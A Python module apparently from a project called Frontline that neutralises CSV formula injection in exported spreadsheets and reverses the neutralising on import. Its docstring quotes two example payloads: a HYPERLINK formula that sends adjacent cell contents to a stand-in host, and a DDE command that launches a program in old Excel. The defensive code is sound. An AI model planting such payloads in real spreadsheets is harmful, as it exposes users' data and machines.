"""Spreadsheet cells that cannot run: CSV formula injection, neutralised and undone.

A spreadsheet program opening a CSV treats a cell that begins with `=`, `+`, `-` or `@`
(and, in some, a tab or a carriage return) as a formula: a resident "named"
`=HYPERLINK("http://x/?"&A1,"y")` would send the neighbouring cells away when a clerk
clicks, and `+cmd|' /C calc'!A0` runs a program in old Excel. The export therefore
prefixes such a cell with a single quote, the way OWASP recommends ("CSV Injection"),
and the import takes that quote off again, so that an export still imports back
unchanged.

The pair is a bijection on strings: a cell is quoted when, after any quotes it already
begins with, the next character is one of the triggers; the import removes exactly one
quote from exactly those cells. So `'=x` (a value that really begins with a quote) is
exported as `''=x` and comes back as `'=x`, and `'abc` is left alone both ways.

Django-free, like `labels` and `idnumber`: the census reader and writer call it per cell.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# What makes a spreadsheet evaluate a cell (OWASP's list).
TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    """Whether the first character after any leading quotes is a trigger."""
    return text.lstrip(QUOTE)[:1] in TRIGGERS


def neutralise_cell(text: str) -> str:
    """The text as a CSV cell that no spreadsheet program evaluates."""
    if text and (text[0] in TRIGGERS or (text[0] == QUOTE and _needs_quote(text))):
        return QUOTE + text
    return text


def unneutralise_cell(text: str) -> str:
    """The value `neutralise_cell` was given: one quote off a neutralised cell."""
    if text[:1] == QUOTE and _needs_quote(text):
        return text[1:]
    return text


def escape_quote(text: str) -> str:
    """Only the quote case of `neutralise_cell`, for cells that are text already.

    An .xlsx cell written as a string never runs, so it keeps `=SUM(1)` as it is (what a
    clerk should see); but the import takes a quote off every cell that looks neutralised,
    whatever the format, so a value that really begins with `'=` needs its extra quote in
    the workbook too.
    """
    if text[:1] == QUOTE and _needs_quote(text):
        return QUOTE + text
    return text


# Characters XML 1.0 cannot carry: a workbook holding one does not save (an old row from
# before the import refused control characters must not break a download).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xlsx_text_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """One row for a write-only openpyxl sheet in which every text cell is a string cell.

    openpyxl writes a str that begins with "=" as a formula; a cell built here never is.
    Numbers stay numbers. Every sheet Frontline hands out is written through this.
    """
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if value is None or (isinstance(value, int | float) and not isinstance(value, bool)):
            row.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=escape_quote(_XML_ILLEGAL.sub("", str(value))))
        cell.data_type = "s"
        row.append(cell)
    return row
